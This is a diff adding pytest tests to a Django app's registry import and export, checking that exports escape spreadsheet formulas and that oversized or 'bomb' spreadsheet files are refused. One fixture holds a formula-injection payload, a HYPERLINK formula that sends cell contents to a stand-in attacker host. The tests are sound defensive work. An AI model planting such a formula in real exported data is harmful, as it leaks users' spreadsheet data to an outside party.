@@ -1,3 +1,7 @@
+import csv
+import io
+
+import openpyxl
 import pytest
 from django.core import mail
 from django.core.management import CommandError, call_command
@@ -203,6 +207,29 @@ def test_command_with_errors_does_not_create_the_organisation(tmp_path):
     assert not Organisation.objects.filter(code="neworg").exists()
 
 
+HYPERLINK = ' =HYPERLINK("http://attacker.example/?leak="&A1,"Xem")'
+
+
+def a_unit_named_with_a_formula_behind_a_space():
+    org = make_org()
+    make_membership(make_cluster(org), make_unit(org, code="U1", name=HYPERLINK), 2025)
+    return org
+
+
+def test_export_escapes_a_formula_behind_a_leading_space_in_csv():
+    org = a_unit_named_with_a_formula_behind_a_space()
+    content = registry_export(organisation=org, file_format="csv").decode("utf-8-sig")
+    cells = [c for row in csv.reader(io.StringIO(content)) for c in row]
+    assert "'" + HYPERLINK in cells
+
+
+def test_export_escapes_a_formula_behind_a_leading_space_in_xlsx():
+    org = a_unit_named_with_a_formula_behind_a_space()
+    content = registry_export(organisation=org, file_format="xlsx")
+    cells = [c for row in openpyxl.load_workbook(io.BytesIO(content)).active.values for c in row]
+    assert "'" + HYPERLINK in cells
+
+
 def test_export_command_writes_csv_for_one_year(tmp_path):
     org = make_org(code="lc")
     run(org, GOOD_ROWS + [registry_row("U1", "Hội Luật gia tỉnh", kind="Khối", cluster="K1",
@@ -255,3 +282,37 @@ def test_an_import_after_an_actor_context_has_ended_records_no_stale_actor():
         pass
     run(make_org(), GOOD_ROWS)
     assert not LogEntry.objects.filter(actor__isnull=False).exists()
+
+
+def test_a_spreadsheet_bomb_is_refused_in_vietnamese_and_nothing_is_written(monkeypatch):
+    import openpyxl as openpyxl_module
+
+    from tests.core.xlsx_files import review_bomb
+
+    monkeypatch.setattr(openpyxl_module, "load_workbook", lambda *a, **k: 1 / 0)
+    org = make_org()
+    report = registry_import(organisation=org, content=review_bomb(), file_name="bom.xlsx",
+                             dry_run=False)
+    assert "bị từ chối mà không đọc" in report.file_error
+    assert not Unit.objects.filter(organisation=org).exists()
+
+
+def test_a_file_over_the_row_limit_is_refused_before_its_rows_are_checked(settings):
+    import itertools
+
+    from clusters.registry_io import HEADERS
+    from tests.core.xlsx_files import streamed_xlsx
+
+    settings.REGISTRY_IMPORT_MAX_ROWS = 100
+    rows = ([f"U{i}", "Đơn vị", "", "C1", "Cụm thi đua số 1", "Cụm", 2026, "Thành viên"]
+            for i in range(101))
+    report = registry_import(organisation=make_org(), content=streamed_xlsx(
+        itertools.chain([HEADERS], rows)), file_name="x.xlsx", dry_run=True)
+    assert (report.file_error, report.errors) == ("Tệp có nhiều hơn 100 dòng.", [])
+
+
+def test_a_csv_over_the_row_limit_is_refused(settings):
+    settings.REGISTRY_IMPORT_MAX_ROWS = 2
+    report = registry_import(organisation=make_org(), content=csv_bytes(
+        [registry_row(f"U{i}") for i in range(3)]), file_name="x.csv", dry_run=True)
+    assert report.file_error == "Tệp có nhiều hơn 2 dòng."
